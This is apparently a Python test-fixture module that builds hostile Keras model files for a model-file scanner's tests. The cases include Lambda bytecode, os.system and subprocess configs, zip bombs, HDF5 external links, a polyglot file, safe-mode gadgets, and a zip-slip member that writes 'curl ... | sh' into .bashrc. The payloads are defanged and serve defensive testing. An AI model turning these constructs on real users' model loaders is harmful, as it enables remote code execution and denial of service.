"""Hostile model files for the security tests and benchmarks/hostile.py.

:func:`build` writes every case into a folder: real Keras models saved by Keras and then
tampered with, or archives written byte by byte where Keras cannot produce the construct.
Every outside path the files name is a FIFO, so following one would block.
"""

from __future__ import annotations

import importlib.util
import json
import os
import struct
import warnings
import zipfile
import zlib
from pathlib import Path
from typing import Any

# --------------------------------------------------------------------------- file builders


def read_members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def write_members(path: Path, members: dict[str, bytes | str]) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


def tamper(src: Path, dst: Path, edit: Any) -> Path:
    """Copy a Keras-written ``.keras`` with ``edit(config)`` applied to its config.json."""
    members = read_members(src)
    config = json.loads(members["config.json"])
    edit(config)
    members["config.json"] = json.dumps(config)
    return write_members(dst, members)


def bomb_zip(path: Path, name: str, size: int, declared: int | None = None) -> Path:
    """A zip whose member ``name`` inflates to ``size`` bytes of spaces from a few KiB.
    ``declared`` makes the headers lie about the size. Written byte by byte: the same
    deflate block (full flush, so it stands alone) repeated, then an empty final block."""
    block = 1 << 20
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = comp.compress(b" " * block) + comp.flush(zlib.Z_FULL_FLUSH)
    final = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    data = piece * (size // block) + final
    usize = size if declared is None else declared
    fname = name.encode()
    crc = 0  # never checked: nobody may read the member to its end
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), usize, len(fname), 0
    )
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII",
        0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(data), usize, len(fname), 0, 0, 0, 0, 0, 0,
    )  # fmt: skip
    body = local + fname + data
    cd = central + fname
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(cd), len(body), 0)
    path.write_bytes(body + cd + end)
    return path


def node(src: str) -> dict[str, Any]:
    tensor = {"class_name": "__keras_tensor__", "config": {"keras_history": [src, 0, 0]}}
    return {"args": [tensor], "kwargs": {}}


def functional(layers: list[dict[str, Any]], out: str) -> dict[str, Any]:
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {
            "name": "crafted",
            "layers": layers,
            "input_layers": [["x", 0, 0]],
            "output_layers": [[out, 0, 0]],
        },
        "registered_name": "Functional",
    }


def dense(name: str, src: str) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "name": name,
        "config": {"name": name, "units": 4, "activation": "relu"},
        "inbound_nodes": [node(src)],
    }


INPUT = {
    "module": "keras.layers",
    "class_name": "InputLayer",
    "name": "x",
    "config": {"name": "x", "batch_shape": [None, 4]},
    "inbound_nodes": [],
}


def build(out: Path) -> dict[str, Any]:
    """Write every hostile file into ``out``.

    Returns:
        ``{"cases": {name: (path, code lint must report, location prefix or None)},
        "marker": file the files' code would create, "fifo": the outside path,
        "good": a benign model, "dir": out}``.
    """
    import h5py
    import keras

    layers = keras.layers
    outside = out / "outside"
    outside.mkdir()
    fifo = outside / "secret"  # every outside reference points here
    os.mkfifo(fifo)
    marker = out / "PWNED"
    cases: dict[str, tuple[Path, str, tuple[str, ...] | None]] = {}

    # Lambdas whose bytecode writes the marker file (a literal path: no globals needed),
    # defined in a real file so Keras can show their source when it warns about them.
    source = out / "evil_lambdas.py"
    source.write_text(
        f"WRITES = lambda t: (open({str(marker)!r}, 'a').write('ran'), t)[1]\n"
        f"LOSS = lambda y, p: (open({str(marker)!r}, 'a').write('ran'), (y - p) ** 2)[1]\n"
    )
    spec = importlib.util.spec_from_file_location("evil_lambdas", source)
    evil = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(evil)
    writes = evil.WRITES

    keras.backend.clear_session()
    base = keras.Sequential(
        [keras.Input((4,)), layers.Dense(4, activation="relu", name="hidden"),
         layers.Dense(2, activation="softmax", name="out")]
    )  # fmt: skip
    base.compile("adam", "categorical_crossentropy", metrics=["accuracy"])
    good = out / "good.keras"
    base.save(good)
    cases["good-control"] = (good, "", None)

    keras.backend.clear_session()
    model = keras.Sequential(
        [keras.Input((4,)), layers.Lambda(writes, name="lam"), layers.Dense(2, name="out")]
    )
    model.save(out / "lambda.keras")
    cases["lambda-bytecode-writes-file"] = (out / "lambda.keras", "MC801", ("lam",))

    keras.backend.clear_session()
    inner = keras.Sequential(
        [keras.Input((4,)), layers.Dense(4, name="pre"), layers.Lambda(writes, name="lam")],
        name="inner",
    )
    inp = keras.Input((4,))
    model = keras.Model(inp, layers.Dense(2, name="out")(inner(inp)))
    model.save(out / "nested.keras")
    cases["lambda-in-nested-model"] = (out / "nested.keras", "MC801", ("inner", "lam"))

    keras.backend.clear_session()
    model = keras.Sequential(
        [keras.Input((3, 4)), layers.TimeDistributed(layers.Lambda(writes), name="td"),
         layers.Flatten(), layers.Dense(2)]
    )  # fmt: skip
    model.save(out / "wrapped.keras")
    cases["lambda-in-wrapper"] = (out / "wrapped.keras", "MC801", ("td",))

    keras.backend.clear_session()
    model = keras.Sequential([keras.Input((4,)), layers.Dense(2, name="out")])
    model.compile("adam", loss=evil.LOSS)
    with warnings.catch_warnings():  # Keras warns that the lambda is unsafe
        warnings.simplefilter("ignore")
        model.save(out / "compile_lambda.keras")
    cases["lambda-in-compile-config"] = (
        out / "compile_lambda.keras",
        "MC801",
        ("config.json", "compile_config", "loss"),
    )
    marker.unlink(missing_ok=True)  # building the models ran the lambdas once, here

    system = {"module": "os", "class_name": "system", "registered_name": None}
    command = f"touch {marker}"

    def as_layer(cfg):
        entry = layer_named(cfg, "hidden")
        entry.update(system, config={"name": "hidden", "command": command})

    def as_activation(cfg):
        layer_named(cfg, "hidden")["config"]["activation"] = {**system, "config": command}

    def as_initializer(cfg):
        layer_named(cfg, "hidden")["config"]["kernel_initializer"] = {
            "module": "subprocess",
            "class_name": "Popen",
            "config": {"args": ["touch", str(marker)]},
            "registered_name": None,
        }

    def as_loss(cfg):
        cfg["compile_config"]["loss"] = {
            "module": "builtins",
            "class_name": "function",
            "config": "eval",
            "registered_name": "function",
        }

    def as_metric(cfg):
        cfg["compile_config"]["metrics"] = [
            "accuracy",
            {"module": "keras.utils", "class_name": "get_file", "registered_name": None,
             "config": {"fname": "x", "origin": "http://127.0.0.1:9/payload"}},
        ]  # fmt: skip

    def as_string_loss(cfg):
        cfg["compile_config"]["loss"] = "os.system"

    def unsafe_mode(cfg):
        layer_named(cfg, "out")["config"]["bias_initializer"] = {
            "module": "keras.config",
            "class_name": "enable_unsafe_deserialization",
            "config": {},
            "registered_name": None,
        }

    for name, edit, where in [
        ("os-system-as-layer", as_layer, ("hidden",)),
        ("os-system-as-activation", as_activation, ("hidden",)),
        ("subprocess-as-initializer", as_initializer, ("hidden",)),
        ("builtins-eval-as-loss", as_loss, ("config.json", "compile_config", "loss")),
        ("keras-get-file-as-metric", as_metric, ("config.json", "compile_config", "metrics")),
        ("os-system-as-loss-string", as_string_loss, ("config.json", "compile_config", "loss")),
        ("enable-unsafe-deserialization", unsafe_mode, ("out",)),
    ]:
        cases[name] = (tamper(good, out / f"{name}.keras", edit), "MC802", where)

    def tfsm(cfg):
        layer_named(cfg, "hidden").update(
            class_name="TFSMLayer",
            config={"name": "hidden", "filepath": str(fifo), "call_endpoint": "serve"},
        )

    cases["tfsm-layer-outside-savedmodel"] = (
        tamper(good, out / "tfsm.keras", tfsm),
        "MC804",
        ("hidden",),
    )

    def vocab(cfg):
        layer_named(cfg, "hidden").update(
            class_name="StringLookup",
            config={"name": "hidden", "vocabulary": str(fifo), "output_mode": "int"},
        )

    cases["vocabulary-path-outside"] = (
        tamper(good, out / "vocab.keras", vocab),
        "MC805",
        ("hidden",),
    )

    # Zip bombs: a 2 GiB config.json (honest headers), and one whose headers claim 900 bytes.
    cases["zip-bomb-config"] = (
        bomb_zip(out / "bomb.keras", "config.json", 2 << 30),
        "MC806",
        ("config.json",),
    )
    cases["zip-bomb-lying-headers"] = (  # also unreadable: exit code 2 next to the finding
        bomb_zip(out / "bomb_lying.keras", "config.json", 1 << 30, declared=900),
        "MC807",
        ("zip member 'config.json'",),
    )

    deep = (
        '{"class_name": "Sequential", "config": {"name": "d", "layers": '
        + ("[" * 100_000 + "]" * 100_000)
        + "}}"
    )
    cases["deeply-nested-json"] = (
        write_members(out / "deep.keras", {"config.json": deep}),
        "MC806",
        ("config.json",),
    )
    medium = (
        '{"class_name": "Sequential", "config": {"name": "d", "layers": ['
        + ('{"a": ' * 700 + "1" + "}" * 700)
        + "]}}"
    )
    cases["nested-json-600-plus"] = (
        write_members(out / "deep700.keras", {"config.json": medium}),
        "MC806",
        ("config.json",),
    )

    cycle = functional([INPUT, dense("a", "b"), dense("b", "a")], "b")
    cases["inbound-nodes-cycle"] = (
        write_members(out / "cycle.keras", {"config.json": json.dumps(cycle)}),
        "MC807",
        ("config.json",),
    )
    dangling = functional([INPUT, dense("a", "x"), dense("b", "ghost")], "b")
    cases["dangling-layer-reference"] = (
        write_members(out / "dangling.keras", {"config.json": json.dumps(dangling)}),
        "MC807",
        ("config.json",),
    )

    # Weights declaring a 4 TiB dataset they do not store (needs --weights).
    members = read_members(good)
    h5 = out / "huge.h5"
    with h5py.File(h5, "w") as f:
        f.create_dataset("layers/dense/vars/0", shape=(1 << 40,), dtype="float32")
    members["model.weights.h5"] = h5.read_bytes()
    cases["weights-declaring-huge-shape"] = (
        write_members(out / "huge_shape.keras", members),
        "MC806",
        ("model.weights.h5", "layers", "dense", "vars"),
    )

    # A legacy .h5 model (written by Keras) with an HDF5 external link to the FIFO.
    legacy = out / "linked.h5"
    keras.backend.clear_session()
    keras.Sequential([keras.Input((4,)), layers.Dense(2, name="out")]).save(legacy)
    with h5py.File(legacy, "a") as f:
        f["model_weights/stolen"] = h5py.ExternalLink(str(fifo), "/data")
    cases["h5-external-link"] = (legacy, "MC805", ("hdf5", "model_weights", "stolen"))

    members = read_members(good)
    members["../../.bashrc"] = "curl http://127.0.0.1:9/x | sh\n"
    cases["zip-slip-member"] = (write_members(out / "slip.keras", members), "MC805", None)
    members = read_members(good)
    members["payload.pkl"] = b"\x80\x04K\x01."
    cases["extra-pickle-member"] = (write_members(out / "extra.keras", members), "MC808", None)

    def torch(cfg):
        layer_named(cfg, "hidden").update(
            class_name="TorchModuleWrapper",
            config={"name": "hidden", "module": "gASVAAAAAAAAAAB9lC4="},
        )

    cases["torch-pickle"] = (tamper(good, out / "torch.keras", torch), "MC801", ("hidden",))

    def keras2_lambda(cfg):
        layer_named(cfg, "hidden").update(
            module=None,
            class_name="Lambda",
            config={"name": "hidden", "function": ["4wEAAAAAAAAA", None, None],
                    "function_type": "lambda", "module": "__main__"},
        )  # fmt: skip

    cases["keras2-lambda-bytecode"] = (
        tamper(good, out / "k2lambda.keras", keras2_lambda),
        "MC801",
        ("hidden",),
    )
    _keras_function_cases(out, cases, keras, h5py, fifo, marker, writes)
    _bound_cases(out, cases, good)
    image = out / "PWNED.png"  # what the image-saving gadget writes (matplotlib adds .png)
    return {
        "cases": cases,
        "marker": marker,
        "markers": (marker, image),
        "fifo": fifo,
        "good": good,
        "dir": out,
    }


def layer_named(cfg: dict, name: str) -> dict:
    return next(e for e in cfg["config"]["layers"] if e["config"].get("name") == name)


def add_gadget(cfg: dict, function: dict, arguments: dict) -> None:
    """Append a Lambda layer (a copy of the model's own Keras-written 'lam') that calls
    ``function`` with ``arguments`` on a constant input, so Keras calls it while it builds
    the model, before anything is trained or predicted."""
    evil = json.loads(json.dumps(layer_named(cfg, "lam")))
    evil["name"] = evil["config"]["name"] = "evil"
    evil["config"]["function"] = function
    evil["config"]["arguments"] = arguments
    image = {"class_name": "__numpy__", "config": {"value": [[[[0.5] * 3]]], "dtype": "float32"}}
    evil["inbound_nodes"] = [{"args": [image], "kwargs": {}}]
    cfg["config"]["layers"].append(evil)


def keras_function(module: str, name: str) -> dict:
    """A public Keras function by name, as a config refers to one."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def _keras_function_cases(
    out: Path, cases: dict, keras: Any, h5py: Any, fifo: Path, marker: Path, writes: Any
) -> None:
    """Files that make Keras call one of its own public functions with the file's arguments
    (accepted by ``load_model`` in safe mode), a polyglot that hides such a file behind a
    benign HDF5 model, and bytecode hidden where the scan used not to look."""
    layers = keras.layers
    keras.backend.clear_session()
    inp = keras.Input((4, 4, 3), name="x")
    relu = layers.Lambda(keras.ops.relu, name="lam")(inp)
    head = layers.Dense(2, name="out")(layers.Flatten(name="flat")(relu))
    base = keras.Model(inp, head)
    base.save(out / "gadget_base.keras")
    base.save(out / "gadget_base.h5")
    plot = keras_function("keras.visualization", "plot_image_gallery")
    image = str(out / "PWNED")  # matplotlib writes PWNED.png

    writer = tamper(
        out / "gadget_base.keras",
        out / "keras_function_writes_file.keras",
        lambda cfg: add_gadget(cfg, plot, {"path": image}),
    )
    cases["keras-function-lambda-writes-file"] = (writer, "MC802", ("evil",))

    legacy = out / "keras_function_writes_file.h5"
    legacy.write_bytes((out / "gadget_base.h5").read_bytes())
    with h5py.File(legacy, "a") as f:
        cfg = json.loads(f.attrs["model_config"])
        add_gadget(cfg, plot, {"path": image})
        f.attrs["model_config"] = json.dumps(cfg)
    cases["keras-function-lambda-writes-file-h5"] = (legacy, "MC802", ("evil",))

    tfsm = keras_function("keras.layers", "TFSMLayer")
    cases["keras-layer-constructor-as-lambda"] = (
        tamper(
            out / "gadget_base.keras",
            out / "tfsm_constructor.keras",
            lambda cfg: add_gadget(cfg, tfsm, {"call_endpoint": str(fifo)}),
        ),
        "MC802",
        ("evil",),
    )

    def loader_activation(cfg: dict) -> None:
        layer_named(cfg, "out")["config"]["activation"] = keras_function(
            "keras.datasets.mnist", "load_data"
        )

    cases["keras-dataset-loader-as-activation"] = (
        tamper(out / "gadget_base.keras", out / "loader_activation.keras", loader_activation),
        "MC802",
        ("out",),
    )

    # A benign legacy .h5 model with the file-writing .keras appended: Keras reads the zip
    # part when the name ends in .keras, the HDF5 part when it ends in .h5.
    polyglot = (out / "gadget_base.h5").read_bytes() + writer.read_bytes()
    (out / "polyglot.keras").write_bytes(polyglot)
    (out / "polyglot.h5").write_bytes(polyglot)
    cases["polyglot-h5-with-hostile-zip"] = (out / "polyglot.keras", "MC809", ("file",))
    cases["polyglot-named-h5"] = (out / "polyglot.h5", "MC809", ("file",))

    # Lambda bytecode in a nested model inside a __slice__ in a Lambda's arguments: Keras
    # rebuilds the slice's bounds (and with safe_mode=False runs the bytecode).
    keras.backend.clear_session()
    inner = keras.Sequential(
        [keras.Input((4,)), layers.Lambda(writes, name="inner_lam")], name="inner"
    )
    inner_config = keras.saving.serialize_keras_object(inner)
    marker.unlink(missing_ok=True)

    def hide_in_slice(cfg: dict) -> None:
        layer_named(cfg, "lam")["config"]["arguments"] = {
            "bounds": {
                "class_name": "__slice__",
                "config": {"start": inner_config, "stop": None, "step": None},
            }
        }

    cases["lambda-hidden-in-slice"] = (
        tamper(out / "gadget_base.keras", out / "slice.keras", hide_in_slice),
        "MC801",
        ("lam", "inner_lam"),
    )


def _bound_cases(out: Path, cases: dict, good: Path) -> None:
    """Files whose JSON is within the byte and depth limits but not within memory or
    integer bounds."""
    # 63 MiB of "[]," (22 million lists, 5.6 GB once parsed) in a 64 KiB archive.
    body = b"[]," * (63 * 1024 * 1024 // 3)
    config = b'{"class_name": "Sequential", "config": {"name": "s", "layers": [' + body + b"[]]}}"
    path = out / "json_elements.keras"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("config.json", config)
    cases["json-element-bomb"] = (path, "MC806", ("config.json",))

    # A dimension of 10**1000 (printing products of such numbers fails; Keras would try to
    # allocate them).
    members = read_members(good)
    config = json.loads(members["config.json"])
    layer_named(config, "hidden")["config"]["units"] = "HUGE"
    members["config.json"] = json.dumps(config).replace('"HUGE"', "1" + "0" * 1000)
    cases["huge-integer-dimension"] = (
        write_members(out / "huge_int.keras", members),
        "MC806",
        ("config.json",),
    )


#: Every hostile case, in report order.
HOSTILE = [
    "lambda-bytecode-writes-file",
    "lambda-in-nested-model",
    "lambda-in-wrapper",
    "lambda-in-compile-config",
    "os-system-as-layer",
    "os-system-as-activation",
    "subprocess-as-initializer",
    "builtins-eval-as-loss",
    "keras-get-file-as-metric",
    "os-system-as-loss-string",
    "enable-unsafe-deserialization",
    "tfsm-layer-outside-savedmodel",
    "vocabulary-path-outside",
    "zip-bomb-config",
    "zip-bomb-lying-headers",
    "deeply-nested-json",
    "nested-json-600-plus",
    "inbound-nodes-cycle",
    "dangling-layer-reference",
    "weights-declaring-huge-shape",
    "h5-external-link",
    "zip-slip-member",
    "extra-pickle-member",
    "torch-pickle",
    "keras2-lambda-bytecode",
    "keras-function-lambda-writes-file",
    "keras-function-lambda-writes-file-h5",
    "keras-layer-constructor-as-lambda",
    "keras-dataset-loader-as-activation",
    "polyglot-h5-with-hostile-zip",
    "polyglot-named-h5",
    "lambda-hidden-in-slice",
    "json-element-bomb",
    "huge-integer-dimension",
]
#: Cases Keras loads and runs in safe mode (the probe's mode): each writes a marker.
RUN_IN_SAFE_MODE = [
    "keras-function-lambda-writes-file",
    "keras-function-lambda-writes-file-h5",
    "polyglot-h5-with-hostile-zip",
]
